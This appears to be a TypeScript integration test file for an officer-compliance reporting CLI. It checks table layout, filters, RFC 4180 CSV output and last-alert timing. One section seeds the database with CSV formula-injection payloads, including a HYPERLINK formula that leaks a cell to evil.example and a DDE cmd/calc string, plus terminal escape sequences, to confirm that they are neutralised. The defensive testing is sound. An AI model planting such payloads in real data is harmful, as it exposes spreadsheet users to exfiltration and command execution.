// `sro report` as people and scripts run it (child processes, the demo roster, real
// PostgreSQL; the ledger filled by a real `sro scan`): a table of at most 120 columns with
// names instead of ids, the --agency / --district / --status filters, --format csv (RFC
// 4180, parsed back to the --json officers, formula cells neutralised, control characters
// escaped), and LAST ALERT SENT as of the end of the as-of day in TZ.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { civilDateIn } from '../../src/shell/clock.ts';
import { type TestDatabase, queryRows } from '../helpers/db.ts';
import { deletePrefix, uniquePrefix } from '../helpers/redis.ts';
import { createRosterDatabase } from '../helpers/roster-database.ts';
import { type SroRun, runSro } from '../helpers/sro-cli.ts';

const prefix = uniquePrefix('rptcli');
const TZ = 'America/Chicago';
const PAST = '2026-03-02';
let t: TestDatabase;
let outbox = '';
/** Today in TZ, once the scan has sent its e-mails (they are stamped with the real clock). */
let today = '';

function sro(db: TestDatabase, args: string[]): Promise<SroRun> {
  return runSro(
    args,
    {},
    {
      base: { DATABASE_URL: db.url, QUEUE_PREFIX: prefix, MAIL_OUTBOX_DIR: outbox, TZ },
      maxBuffer: 16 * 1024 * 1024,
    },
  );
}

async function ok(db: TestDatabase, args: string[]): Promise<string> {
  const r = await sro(db, args);
  expect(r.code, r.stderr).toBe(0);
  return r.stdout;
}

interface LastAlert {
  kind: string;
  alertKey: string;
  sentAt: string;
  recipients: string[];
}
interface Officer {
  license: string;
  name: string;
  agencyId: string;
  status: string;
  reason: string | null;
  dueDate: string | null;
  daysRemaining: number | null;
  contactDays: number;
  projected60thDay: string | null;
  restrictedDuties: number[];
  issues: string[];
  completedLate: boolean;
  lastAlert: LastAlert | null;
}

async function officersJson(db: TestDatabase, args: string[]): Promise<Officer[]> {
  return (JSON.parse(await ok(db, ['report', ...args, '--json'])) as { officers: Officer[] }).officers;
}

type CsvRecord = Record<string, string>;

function parseCsv(text: string): CsvRecord[] {
  return parse(text, { columns: true, record_delimiter: '\r\n', relax_column_count: false }) as CsvRecord[];
}

/** A CSV record read back as the --json officer it stands for. */
function officerOfCsv(r: CsvRecord): Officer {
  const list = (v: string | undefined) => (v ? v.split(';') : []);
  const orNull = (v: string | undefined) => (v === '' || v === undefined ? null : v);
  return {
    license: r.license!,
    name: r.name!,
    agencyId: r.agency_id!,
    status: r.status!,
    reason: orNull(r.reason),
    dueDate: orNull(r.due_date),
    daysRemaining: r.days_remaining === '' ? null : Number(r.days_remaining),
    contactDays: Number(r.contact_days),
    projected60thDay: orNull(r.projected_60th_day),
    restrictedDuties: list(r.restricted_duties).map(Number),
    issues: list(r.issues),
    completedLate: r.completed_late === 'true',
    lastAlert: r.last_alert_kind
      ? {
          kind: r.last_alert_kind,
          alertKey: r.last_alert_key!,
          sentAt: r.last_alert_sent_at!,
          recipients: list(r.last_alert_recipients),
        }
      : null,
  };
}

/** The officers' licenses on the table's rows (the lines after the column titles). */
function tableLicenses(table: string): string[] {
  const lines = table.split('\n');
  const titles = lines.findIndex((l) => l.startsWith('LICENSE '));
  return lines
    .slice(titles + 1)
    .filter(Boolean)
    .map((l) => l.slice(0, l.indexOf(' ')));
}

/** Terminal columns of a line of the demo table: one per code point (it holds no wide character). */
const columns = (line: string) => [...line].length;

beforeAll(async () => {
  t = await createRosterDatabase('rptcli');
  outbox = await mkdtemp(join(tmpdir(), 'sro-rptcli-'));
  // A backfill scan of PAST: its e-mails are sent now, months after PAST.
  const scan = await sro(t, ['scan', '--as-of', PAST, '--wait', '60']);
  expect(scan.code, scan.stderr).toBe(0);
  today = civilDateIn(TZ);
}, 90_000);
afterAll(async () => {
  await deletePrefix(prefix);
  await t?.drop();
  if (outbox) await rm(outbox, { recursive: true, force: true });
});

describe('the table fits 120 columns and names agencies and districts', () => {
  it('given the demo roster with alerts sent, when sro report prints the table as of a past day and as of today, then no line is wider than 120 columns, and it keeps the counts line, the urgency order and LAST ALERT SENT', async () => {
    for (const asOf of [PAST, today]) {
      const table = await ok(t, ['report', '--as-of', asOf]);
      const lines = table.split('\n');
      const widest = Math.max(...lines.map(columns));
      console.info(`sro report --as-of ${asOf}: widest line ${widest} columns`);
      expect(widest).toBeLessThanOrEqual(120);
      expect(lines[0]).toMatch(new RegExp(`^Status as of ${asOf}: 16 officers \\(\\d+ OVERDUE, `));
      expect(lines[2]).toMatch(/^LICENSE +NAME +AGENCY +DISTRICT +STATUS +DUE +DAYS +NOTES +LAST ALERT SENT$/);
      // The same officers in the same (urgency) order as --json.
      expect(tableLicenses(table)).toEqual((await officersJson(t, ['--as-of', asOf])).map((o) => o.license));
    }
    const now = await ok(t, ['report', '--as-of', today]);
    expect(now).toMatch(new RegExp(`^24112 .* missed ${today}$`, 'm'));
  });

  it('given agency and district names longer than their columns, then the table shows their beginnings with an ellipsis, never the agency ids', async () => {
    const table = await ok(t, ['report', '--as-of', PAST]);
    expect(table).not.toMatch(/MN0240100|MN0240000/);
    const row = table.split('\n').find((l) => l.startsWith('24113 '))!;
    // Jo Lindqvist: Albert Lea Police Department; Albert Lea Area Schools and Alden-Conger Public Schools.
    expect(row).toMatch(/^24113 +Jo Lindqvist +Albert Lea P\S*… +Albert Lea A\S*… +EXEMPT_SUBSTITUTE +served 54/);
    expect(table).toMatch(/^24116 +Dale Kroll +Freeborn C\S*… +INACTIVE$/m);
  });
});

describe('--agency, --district and --status', () => {
  it('given each filter, then the table, --json and csv show exactly the officers of the full report that match it, in the same order', async () => {
    const all = await officersJson(t, ['--as-of', PAST]);
    const districtsOf = new Map(
      parseCsv(await ok(t, ['report', '--as-of', PAST, '--format', 'csv'])).map((r) => [
        r.license!,
        r.district_ids!.split(';'),
      ]),
    );
    const cases: [string[], (o: Officer) => boolean][] = [
      [['--agency', 'MN0240000'], (o) => o.agencyId === 'MN0240000'],
      [['--district', 'ISD242'], (o) => districtsOf.get(o.license)!.includes('ISD242')],
      [
        ['--district', 'CH4123', '--district', 'ISD241'],
        (o) => districtsOf.get(o.license)!.some((d) => d === 'CH4123' || d === 'ISD241'),
      ],
      [['--status', 'OVERDUE'], (o) => o.status === 'OVERDUE'],
      [
        ['--status', 'exempt_substitute', '--status', 'INACTIVE'],
        (o) => o.status === 'EXEMPT_SUBSTITUTE' || o.status === 'INACTIVE',
      ],
      [
        ['--agency', 'MN0240100', '--status', 'COMPLIANT', '--district', 'ISD241'],
        (o) => o.agencyId === 'MN0240100' && o.status === 'COMPLIANT' && districtsOf.get(o.license)!.includes('ISD241'),
      ],
    ];
    for (const [filter, matches] of cases) {
      const expected = all.filter(matches);
      expect(expected.length, filter.join(' ')).toBeGreaterThan(0);
      expect(expected.length, filter.join(' ')).toBeLessThan(all.length);
      expect(await officersJson(t, ['--as-of', PAST, ...filter]), filter.join(' ')).toEqual(expected);
      const csv = parseCsv(await ok(t, ['report', '--as-of', PAST, '--format', 'csv', ...filter]));
      expect(csv.map(officerOfCsv), filter.join(' ')).toEqual(expected);
      const table = await ok(t, ['report', '--as-of', PAST, ...filter]);
      expect(tableLicenses(table), filter.join(' ')).toEqual(expected.map((o) => o.license));
      expect(table.split('\n')[0]).toContain(`: ${expected.length} officers (`);
      expect(Math.max(...table.split('\n').map(columns))).toBeLessThanOrEqual(120);
    }
  });

  it('given --district, then an officer counts there only while an assignment there is active on the as-of day (an ended one does not)', async () => {
    // Dale Kroll (24116) served ISD241 until 2025-12-19.
    expect((await officersJson(t, ['--as-of', '2025-12-19', '--district', 'ISD241'])).map((o) => o.license)).toContain(
      '24116',
    );
    expect(
      (await officersJson(t, ['--as-of', '2025-12-20', '--district', 'ISD241'])).map((o) => o.license),
    ).not.toContain('24116');
  });

  it('given a filter, then the table names it on its second line, by id and name', async () => {
    const table = await ok(t, ['report', '--as-of', PAST, '--agency', 'MN0240000', '--status', 'OVERDUE']);
    expect(table.split('\n').slice(0, 3)).toEqual([
      expect.stringMatching(/^Status as of 2026-03-02: \d+ officers \(\d+ OVERDUE\)$/),
      "Only agency MN0240000 (Freeborn County Sheriff's Office); status OVERDUE",
      '',
    ]);
  });

  it('given an agency or district that exists but has nobody matching, then an empty report, exit 0', async () => {
    expect(await officersJson(t, ['--as-of', PAST, '--agency', 'MN0240000', '--district', 'CH4123'])).toEqual([]);
    const csv = await ok(t, [
      'report',
      '--as-of',
      PAST,
      '--agency',
      'MN0240000',
      '--district',
      'CH4123',
      '--format',
      'csv',
    ]);
    expect(csv.split('\r\n')).toHaveLength(2);
  });

  it('given --status with an unknown value, then exit 2 naming every valid status, nothing on stdout', async () => {
    const r = await sro(t, ['report', '--status', 'LATE']);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toContain('"LATE"');
    for (const s of ['COMPLIANT', 'EXEMPT_SUBSTITUTE', 'DUE', 'IN_GRACE', 'OVERDUE', 'INACTIVE'])
      expect(r.stderr).toContain(s);
    const list = await sro(t, ['report', '--status', 'OVERDUE,DUE']);
    expect(list.code).toBe(2);
    expect(list.stderr).toContain('repeat --status');
  });

  it('given an --agency or --district id the roster does not have, then exit 1 naming it (and the near miss), nothing on stdout, in every format', async () => {
    for (const format of ['table', 'csv', 'json']) {
      const r = await sro(t, ['report', '--agency', 'mn0240100', '--district', 'ISD999', '--format', format]);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stdout).toBe('');
      expect(r.stderr).toContain('--agency: no agency "mn0240100" (did you mean "MN0240100"?)');
      expect(r.stderr).toContain('--district: no district "ISD999"');
    }
    const swapped = await sro(t, ['report', '--district', 'MN0240100']);
    expect(swapped.code).toBe(1);
    expect(swapped.stderr).toContain('an agency: use --agency');
  });

  it('given --format with an unknown value, or --json with --format csv, then exit 2', async () => {
    expect((await sro(t, ['report', '--format', 'xlsx'])).code).toBe(2);
    const both = await sro(t, ['report', '--json', '--format', 'csv']);
    expect(both.code).toBe(2);
    expect(both.stdout).toBe('');
  });
});

describe('--format csv', () => {
  it('given the demo roster with alerts sent, then RFC 4180 records (CRLF, a header) that csv-parse reads back into exactly the --json officers, with the names beside the ids', async () => {
    for (const asOf of [PAST, today]) {
      const text = await ok(t, ['report', '--as-of', asOf, '--format', 'csv']);
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      const records = parseCsv(text);
      const json = await officersJson(t, ['--as-of', asOf]);
      expect(records.map(officerOfCsv)).toEqual(json);
      expect(text.slice(0, text.indexOf('\r\n')).split(',')).toEqual([
        'license',
        'name',
        'agency_id',
        'agency',
        'district_ids',
        'districts',
        'status',
        'due_date',
        'days_remaining',
        'reason',
        'contact_days',
        'projected_60th_day',
        'restricted_duties',
        'issues',
        'completed_late',
        'last_alert_kind',
        'last_alert_sent_at',
        'last_alert_key',
        'last_alert_recipients',
      ]);
      const jo = records.find((r) => r.license === '24113')!;
      expect([jo.agency, jo.district_ids, jo.districts]).toEqual([
        'Albert Lea Police Department',
        'ISD241;ISD242',
        'Albert Lea Area Schools; Alden-Conger Public Schools',
      ]);
      // A name with an apostrophe and parentheses is written as it is (quoted only when needed).
      expect(text).toContain(",Freeborn County Sheriff's Office,");
      expect(text).toContain(',Riverland Community Academy (charter),');
    }
  });
});

describe('names written to the database behind the import', () => {
  let s: TestDatabase;
  beforeAll(async () => {
    s = await createRosterDatabase('rptsql');
    await queryRows(
      s.url,
      `UPDATE officer SET first_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")', last_name = 'Lindahl' WHERE license = '24112'`,
    );
    await queryRows(s.url, `UPDATE officer SET first_name = '+1', last_name = 'Nygaard' WHERE license = '24103'`);
    await queryRows(s.url, `UPDATE officer SET first_name = E'\\tTab', last_name = 'Olson' WHERE license = '24106'`);
    await queryRows(s.url, `UPDATE agency SET name = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE id = 'MN0240000'`);
    await queryRows(s.url, `UPDATE district SET name = '-2+3' WHERE id = 'ISD242'`);
    await queryRows(
      s.url,
      `UPDATE officer SET first_name = E'Jo\\u009b31m', last_name = E'Lind\\u001b[2J\\r\\nqvist\\u202e' WHERE license = '24113'`,
    );
  });
  afterAll(async () => {
    await s?.drop();
  });

  it('given names that begin with =, +, @, - or a tab, then every such csv cell starts with a single quote and reads back as the name behind it', async () => {
    const text = await ok(s, ['report', '--as-of', PAST, '--format', 'csv']);
    const records = new Map(parseCsv(text).map((r) => [r.license!, r]));
    expect(records.get('24112')!.name).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click") Lindahl`);
    // Quotes doubled, the field quoted (it holds a comma and quotes): RFC 4180.
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"") Lindahl",`);
    expect(records.get('24103')!.name).toBe("'+1 Nygaard");
    expect(records.get('24106')!.name).toBe("'\\u0009Tab Olson");
    expect(records.get('24112')!.agency).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(records.get('24112')!.districts).toBe("'-2+3");
    // No cell of any record starts a formula, and the numbers stay numbers (-182 days).
    for (const r of records.values())
      for (const v of Object.values(r)) if (v !== r.days_remaining) expect(v).not.toMatch(/^[=+\-@\t\r]/);
    expect(records.get('24112')!.days_remaining).toBe('-182');
  });

  it('given control characters in a name, then the table and the csv show them escaped (\\u009b), never raw, and the table still fits 120 columns', async () => {
    const table = await ok(s, ['report', '--as-of', PAST]);
    const csv = await ok(s, ['report', '--as-of', PAST, '--format', 'csv']);
    for (const text of [table, csv]) {
      expect(text).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202e]/);
      expect(text).toContain('Jo\\u009b31m');
    }
    expect(parseCsv(csv).find((r) => r.license === '24113')!.name).toBe(
      'Jo\\u009b31m Lind\\u001b[2J\\u000d\\u000aqvist\\u202e',
    );
    expect(csv.split('\r\n')).toHaveLength(16 + 2);
    expect(table.split('\n')).toHaveLength(16 + 4);
    expect(Math.max(...table.split('\n').map(columns))).toBeLessThanOrEqual(120);
    expect(table.split('\n').find((l) => l.startsWith('24113 '))).toMatch(/^24113 +Jo\\u009b31m .*… /);
    // --json is a JSON document: JSON's own escapes, the shape of RULES.md section 3 unchanged.
    const json = (JSON.parse(await ok(s, ['report', '--as-of', PAST, '--json'])) as { officers: Officer[] }).officers;
    expect(json.find((o) => o.license === '24113')!.name).toBe('Jo\u009b31m Lind\u001b[2J\r\nqvist\u202e');
  });
});

describe('LAST ALERT SENT as of a past day', () => {
  it('given alerts a backfill scan sent today, then a report as of the scanned day shows none of them (table, --json, csv), and a report as of today shows each', async () => {
    const sent = await queryRows<{ license: string; n: number }>(
      t.url,
      `SELECT license, count(*)::int AS n FROM alert_ledger WHERE status = 'SENT' GROUP BY license`,
    );
    expect(sent.length).toBeGreaterThan(3);
    const past = await officersJson(t, ['--as-of', PAST]);
    expect(past.filter((o) => o.lastAlert !== null)).toEqual([]);
    expect(
      parseCsv(await ok(t, ['report', '--as-of', PAST, '--format', 'csv'])).filter((r) => r.last_alert_kind !== ''),
    ).toEqual([]);
    const table = await ok(t, ['report', '--as-of', PAST]);
    expect(table).not.toMatch(/(reminder|missed|nearing 60|no cert|no review|resolved) \d{4}-\d{2}-\d{2}$/m);
    const now = await officersJson(t, ['--as-of', today]);
    expect(
      now
        .filter((o) => o.lastAlert !== null)
        .map((o) => o.license)
        .sort(),
    ).toEqual(sent.map((r) => r.license).sort());
  });

  it('given e-mails sent just before and just after midnight in TZ, then the one before the end of the as-of day is the last alert and the later one is not, its recipients included', async () => {
    const db = await createRosterDatabase('rptlast');
    try {
      // 23:30 on March 2 in Chicago (CST, UTC−6) is 05:30 UTC on March 3; 00:00 on March 3 is 06:00 UTC.
      await queryRows(
        db.url,
        `INSERT INTO alert_ledger (key, alert_key, kind, license, recipient, as_of, status, sent_at, created_at, updated_at) VALUES
           ('k1', 'a-before', 'CERTIFICATE_MISSING', '24102', 'chief@agency.example', '2026-03-02', 'SENT', '2026-03-03T05:30:00Z', now(), now()),
           ('k2', 'a-after', 'DEADLINE_REMINDER', '24102', 'chief@agency.example', '2026-03-03', 'SENT', '2026-03-03T06:00:00Z', now(), now()),
           ('k3', 'a-before', 'CERTIFICATE_MISSING', '24102', 'late@district.example', '2026-03-02', 'SENT', '2026-03-04T12:00:00Z', now(), now()),
           ('k4', 'a-pending', 'DEADLINE_REMINDER', '24102', 'other@agency.example', '2026-03-02', 'PENDING', NULL, now(), now())`,
      );
      const of = async (asOf: string) =>
        (await officersJson(db, ['--as-of', asOf])).find((o) => o.license === '24102')!.lastAlert;
      expect(await of('2026-03-01')).toBeNull();
      expect(await of('2026-03-02')).toEqual({
        kind: 'CERTIFICATE_MISSING',
        alertKey: 'a-before',
        sentAt: '2026-03-03T05:30:00.000Z',
        recipients: ['chief@agency.example'],
      });
      expect(await of('2026-03-03')).toMatchObject({ alertKey: 'a-after', sentAt: '2026-03-03T06:00:00.000Z' });
      expect(await of('2026-03-04')).toMatchObject({
        alertKey: 'a-before',
        sentAt: '2026-03-04T12:00:00.000Z',
        recipients: ['chief@agency.example', 'late@district.example'],
      });
      // The table shows the day in TZ (March 2), not the UTC date of the instant.
      const table = await ok(db, ['report', '--as-of', '2026-03-02']);
      expect(table).toMatch(/^24102 .* no cert 2026-03-02$/m);
      const csv = parseCsv(await ok(db, ['report', '--as-of', '2026-03-02', '--format', 'csv'])).find(
        (r) => r.license === '24102',
      )!;
      expect([csv.last_alert_kind, csv.last_alert_sent_at, csv.last_alert_key]).toEqual([
        'CERTIFICATE_MISSING',
        '2026-03-03T05:30:00.000Z',
        'a-before',
      ]);
    } finally {
      await db.drop();
    }
  });
});

describe('--help', () => {
  it('teaches every option of sro report, with an example of each filter and format', async () => {
    const r = await sro(t, ['report', '--help']);
    expect(r.code).toBe(0);
    for (const option of ['--as-of', '--format', '--json', '--agency', '--district', '--status', '--officer'])
      expect(r.stdout).toContain(`  ${option} `);
    for (const word of [
      'table',
      'csv',
      'json',
      'RFC 4180',
      'COMPLIANT',
      'EXEMPT_SUBSTITUTE',
      'IN_GRACE',
      'OVERDUE',
      'INACTIVE',
      '120 columns',
      'exit 1',
    ])
      expect(r.stdout).toContain(word);
    const examples = r.stdout.slice(r.stdout.indexOf('Examples:'));
    for (const used of ['--agency ', '--district ', '--status ', '--format csv', '--json', '--as-of '])
      expect(examples).toMatch(new RegExp(`^ {2}sro report .*${used.replace(/-/g, '\\-')}`, 'm'));
  });
});
